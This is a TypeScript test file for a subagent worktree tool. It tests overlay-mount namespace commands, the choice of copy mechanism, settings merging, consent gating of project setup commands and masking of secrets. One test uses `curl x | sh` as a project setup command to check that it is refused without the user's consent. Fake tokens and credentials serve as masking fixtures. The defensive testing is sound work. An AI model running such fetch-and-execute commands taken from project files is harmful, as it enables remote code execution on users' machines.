// The pure side of an isolated task's view and setup: the namespace command, which way a task gets, what the task is
// told about a copy, the settings (a project may only shorten the setup's bound), which setup commands run (a
// project's only with consent), and the secrets of included files masked by value.
import { expect, test } from "bun:test";
import {
  chooseMechanism,
  enterArgv,
  overlayOptions,
  overlaySafePath,
  viewWarning,
} from "../../../../src/core/run/launch/worktree-view.ts";
import { listed } from "../../../../src/core/string-list.ts";
import { defaultSettings, mergeSettings } from "../../../../src/core/settings.ts";
import { setupCommands } from "../../../../src/core/run/task-setup.ts";
import type { Engine } from "../../../../src/core/run/engine.ts";
import type { Profile } from "../../../../src/core/profiles/profile.ts";
import { secretValues } from "../../../../src/core/secret-values.ts";
import { maskLiterals, sanitize } from "../../../../src/core/sanitize.ts";

const tools = { unshare: "/usr/bin/unshare", mount: "/usr/bin/mount", volatile: true };
const layer = {
  kind: "overlay" as const,
  lower: ["/home/me/proj"],
  upper: "/d/l/upper",
  work: "/d/l/work",
  target: "/home/me/proj",
};

test("the namespace command: root mounts in a mount namespace; a user is root in a user namespace to mount (userxattr), then back to its own ids", () => {
  const root = enterArgv({ userns: false, uid: 0, gid: 0, ...tools }, [layer]);
  expect(root.slice(0, 5)).toEqual(["/usr/bin/unshare", "--mount", "--propagation", "private", "/bin/sh"]);
  const opts =
    "volatile,redirect_dir=nofollow,metacopy=off,index=off,lowerdir=/home/me/proj,upperdir=/d/l/upper,workdir=/d/l/work";
  expect(root.slice(-5)).toEqual(["/usr/bin/mount", "1", opts, "/d/l/work", "/home/me/proj"]);
  // The script enters its folder again through the mount: a process keeps the folder below it otherwise.
  expect(root.find((a) => a.includes("exec"))).toContain('cd -P -- "$PWD"');
  const user = enterArgv({ userns: true, uid: 1000, gid: 100, ...tools }, [
    layer,
    { kind: "bind", source: "/a", target: "/b" },
  ]);
  expect(user.slice(0, 3)).toEqual(["/usr/bin/unshare", "--user", "--map-root-user"]);
  expect(user.slice(-4)).toEqual(["/usr/bin/unshare", "--map-user=1000", "--map-group=100", "--"]);
  const at = user.indexOf("subagents-view");
  expect(user.slice(at + 1, at + 9)).toEqual([
    "/usr/bin/mount",
    "2",
    `userxattr,${opts}`,
    "/d/l/work",
    "/home/me/proj",
    "bind",
    "/a",
    "/b",
  ]);
  // A read-only view (the owner's harvest): no upper layer, no volatile, `ro`.
  const ro = { kind: "overlay" as const, lower: ["/d/l/upper", "/home/me/proj"], target: "/d/l/view" };
  expect(overlayOptions({ userns: true, uid: 1, gid: 1, ...tools }, ro)).toBe(
    "ro,userxattr,redirect_dir=nofollow,metacopy=off,index=off,lowerdir=/d/l/upper:/home/me/proj",
  );
  // A kernel without `volatile` (before 5.10) mounts without it.
  expect(enterArgv({ userns: false, uid: 0, gid: 0, ...tools, volatile: false }, [layer]).at(-3)).not.toContain(
    "volatile",
  );
  // A root in a user namespace (a container's root) is root there already: nothing to map back.
  expect(enterArgv({ userns: true, uid: 0, gid: 0, ...tools }, [layer]).at(-1)).toBe(layer.target);
  expect(overlaySafePath("/home/me/proj")).toBe(true);
  expect(overlaySafePath("/home/me/a,b")).toBe(false);
  expect(overlaySafePath("/home/me/a:b")).toBe(false);
});

test("which way a task gets: an overlay only for a child of this machine, then clones, then a copy; copy and off as asked", () => {
  const all = { overlay: true, reflink: true };
  expect(chooseMechanism({ deps: "auto", local: true }, all)).toBe("overlay");
  expect(chooseMechanism({ deps: "auto", local: false }, all)).toBe("reflink");
  expect(chooseMechanism({ deps: "auto", local: true }, { overlay: false, reflink: true })).toBe("reflink");
  expect(chooseMechanism({ deps: "auto", local: true }, { overlay: false, reflink: false })).toBe("copy");
  expect(chooseMechanism({ deps: "copy", local: true }, all)).toBe("copy");
  expect(chooseMechanism({ deps: "off", local: true }, all)).toBe("none");
});

test("a copy is said with its size and why; nothing is said of a layer", () => {
  expect(viewWarning({ mechanism: "overlay", root: "/p", included: [] })).toBeNull();
  expect(
    viewWarning({
      mechanism: "copy",
      root: "/d/w/1",
      included: [],
      bytes: 160 * 1024 * 1024,
      note: "no copy-on-write here: see subagents doctor",
    }),
  ).toBe("the task got a copy of the repository: 160 MB (no copy-on-write here: see subagents doctor)");
  expect(
    viewWarning({
      mechanism: "overlay",
      root: "/p",
      included: [],
      note: ".env named in .worktreeinclude but not ignored by git",
    }),
  ).toBe("the task's view: .env named in .worktreeinclude but not ignored by git");
  expect(listed(["a", "b"])).toBe("a, b");
});

test("settings: worktreeDeps, setup (marked with its source), setupTimeout that a project may only shorten", () => {
  const user = mergeSettings(
    defaultSettings(),
    { worktreeDeps: "copy", setup: "pnpm install --offline", setupTimeout: 120 },
    "~/s.json",
  );
  expect(user.warnings).toEqual([]);
  expect(user.settings.worktreeDeps).toBe("copy");
  expect(user.settings.setup).toEqual({ command: "pnpm install --offline", source: "user", file: "~/s.json" });
  const project = mergeSettings(
    user.settings,
    { setup: "make deps", setupTimeout: 600, worktreeDeps: "sometimes" },
    "p.json",
    false,
  );
  expect(project.settings.setup).toEqual({ command: "make deps", source: "project", file: "p.json" });
  expect(project.settings.setupTimeout).toBe(120);
  expect(project.settings.worktreeDeps).toBe("copy");
  expect(project.warnings).toEqual([
    "p.json: subagents.worktreeDeps must be one of auto, copy, off; ignored",
    "p.json: subagents.setupTimeout = 600 would lengthen the setup's bound; a project's settings can only shorten it: ignored",
  ]);
  expect(mergeSettings(user.settings, { setupTimeout: 30 }, "p.json", false).settings.setupTimeout).toBe(30);
  expect(mergeSettings(user.settings, { setup: 3 }, "x").warnings).toEqual([
    "x: subagents.setup must be a shell command; ignored",
  ]);
});

const engineWith = (settings: Record<string, unknown>, projectHooks?: string) =>
  ({
    settings: mergeSettings(defaultSettings(), settings, "u.json").settings,
    call: { projectHooks },
  }) as unknown as Engine;

test("which setup commands run: the settings' then the agent's; a project's only with the user's consent", () => {
  const agent = { name: "builder", setup: "make gen" } as Profile;
  expect(setupCommands({ engine: engineWith({ setup: "npm ci" }), profile: agent })).toEqual({
    run: ["npm ci", "make gen"],
  });
  const fromProject = engineWith({});
  fromProject.settings.setup = { command: "curl x | sh", source: "project", file: "/p/.pi/settings.json" };
  const refused = setupCommands({ engine: fromProject, profile: null });
  expect(refused.run).toEqual([]);
  expect(refused.refused).toBe(
    'setup `curl x | sh` from /p/.pi/settings.json not run: a project\'s setup command needs consent: set subagents.projectAgents to "allow" in your own settings (pi asks when it has a UI)',
  );
  fromProject.settings.hooks.projectConsent = "deny";
  expect(setupCommands({ engine: fromProject, profile: null }).refused).toContain(
    "a project's setup command is not allowed: your settings' subagents.projectAgents is \"deny\"",
  );
  fromProject.settings.hooks.projectConsent = "allow";
  expect(setupCommands({ engine: fromProject, profile: null })).toEqual({ run: ["curl x | sh"] });
  // pi asked the user for this call: their answer decides.
  fromProject.settings.hooks.projectConsent = "ask";
  fromProject.call.projectHooks = "allowed";
  expect(setupCommands({ engine: fromProject, profile: null })).toEqual({ run: ["curl x | sh"] });
});

test("secrets of included files: values of secret names and generated-looking values, never words, ports, flags or paths; masked by value from then on", () => {
  const env = [
    "# a comment",
    "SERVICE_TOKEN=Zq8vN3kLp0Xw7RtY2mBc44",
    'export DB_PASSWORD="correct horse battery"',
    "DATABASE_URL=postgres://app:hunter2hunter2@db.local/app",
    "WEBHOOK=whk_9f8e7d6c5b4a39281706",
    "PORT=3000",
    "DEBUG=true",
    "APP_NAME=my-little-app",
    "SERVICE_NAME=subagents-demo-service",
    "LOG_FORMAT=json-lines-with-colour",
    "RELEASE=my-app-v2-production",
    "GREETING=hello",
    "PYTHONPATH=/home/me/proj/src",
    "HOMEPAGE=https://example.com/some/long/path",
    "SHORT_KEY=abc",
  ].join("\n");
  expect(secretValues(env)).toEqual([
    "Zq8vN3kLp0Xw7RtY2mBc44",
    "correct horse battery",
    "postgres://app:hunter2hunter2@db.local/app",
    "whk_9f8e7d6c5b4a39281706",
  ]);
  expect(secretValues('{\n  "apiKey": "k-1234567890",\n  "region": "eu-west-1"\n}')).toEqual(["k-1234567890"]);
  const printed = "tokens: Zq8vN3kLp0Xw7RtY2mBc44 and whk_9f8e7d6c5b4a39281706 on port 3000";
  expect(sanitize(printed)).toBe(printed);
  maskLiterals(secretValues(env));
  expect(sanitize(printed)).toBe("tokens: [REDACTED] and [REDACTED] on port 3000");
  // Short values are never taken (they would blot out ordinary words).
  maskLiterals(["abc"]);
  expect(sanitize("abc")).toBe("abc");
});
